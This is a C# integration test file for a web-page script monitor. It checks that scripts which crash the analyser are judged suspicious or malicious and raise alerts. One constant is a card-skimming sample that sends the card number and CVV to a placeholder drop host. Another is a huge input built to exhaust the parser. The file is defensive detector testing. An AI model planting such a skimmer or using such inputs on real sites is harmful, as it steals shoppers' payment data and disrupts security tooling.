using Microsoft.EntityFrameworkCore;
using PageShield.Alerts;
using PageShield.Changes;
using PageShield.Detection;
using PageShield.Inventory;
using PageShield.Inventory.Scripts;
using PageShield.Reports;
using static PageShield.IntegrationTests.Inventory.Captures;

namespace PageShield.IntegrationTests.Detection;

/// <summary>Scripts that end whoever analyses them: judged, shown and told all the same, also where they were there from the beginning.</summary>
public sealed class HostileScriptTests
{
    private const string Url = "https://cdn.example/t.js";
    private const string Skimmer = "document.forms[0].onsubmit = function () { fetch('https://drop.example/x.gif', { method: 'POST', body: document.querySelector('#card_number').value + document.querySelector('[name=cvv]').value }); };\n";
    private static readonly string Deadly = string.Concat(Enumerable.Repeat("<!--\n", 400_000)) + "a=1";

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task A_script_that_ends_the_analyser_is_told_of_even_in_the_first_crawl(Provider provider)
    {
        await using var site = await JudgedSite.CreateAsync(provider);

        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Deadly)));

        var script = await site.ScriptAsync(Url);
        Assert.Equal((VerdictKind.Suspicious, 30), (script.Verdict, script.Score));
        var alert = Assert.Single(
            await site.AskAsync(db => db.Alerts.AsNoTracking().Where(alert => alert.Event == AlertEvents.SuspiciousScript).ToListAsync(Cancel)));
        Assert.Equal(script.Id, alert.ScriptId);
        Assert.Equal(0, await site.AskAsync(db => db.PendingJudgements.CountAsync(Cancel)));
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task A_skimmer_that_ends_the_analyser_is_malicious(Provider provider)
    {
        await using var site = await JudgedSite.CreateAsync(provider);

        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Skimmer + Deadly)));

        Assert.Equal(VerdictKind.Malicious, (await site.ScriptAsync(Url)).Verdict);
        Assert.Single(await site.AttacksAsync());
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task A_harmless_script_that_becomes_one_that_ends_the_analyser_has_gained_every_ability(Provider provider)
    {
        await using var site = await JudgedSite.CreateAsync(provider);
        await site.CrawlAsync(Of("https://shop.example/", (File(Url), "var a = 1;")));

        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Deadly)));

        var change = await site.AskAsync(db => db.Changes.AsNoTracking().SingleAsync(Cancel));
        Assert.Equal((ChangeKind.ScriptChanged, ChangeClass.Capability), (change.Kind, change.Class));
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task A_script_whose_analysis_never_came_to_an_end_is_suspicious_for_that(Provider provider)
    {
        await using var site = await JudgedSite.CreateAsync(provider);
        await site.CrawlAsync(Of("https://shop.example/", (File(Url), "var a = 1;")));
        await site.AskAsync(async db =>
        {
            await db.Judgements.ExecuteDeleteAsync(Cancel);
            db.PendingJudgements.Add(new PendingJudgement { Sha256 = Sha256Hash.OfText("var a = 1;"), Attempts = 3 });
            return 0;
        });

        await site.CrawlAsync(Of("https://shop.example/", (File(Url), "var a = 1;")));

        Assert.Equal(VerdictKind.Suspicious, (await site.ScriptAsync(Url)).Verdict);
        Assert.Equal(0, await site.AskAsync(db => db.PendingJudgements.CountAsync(Cancel)));
    }
}
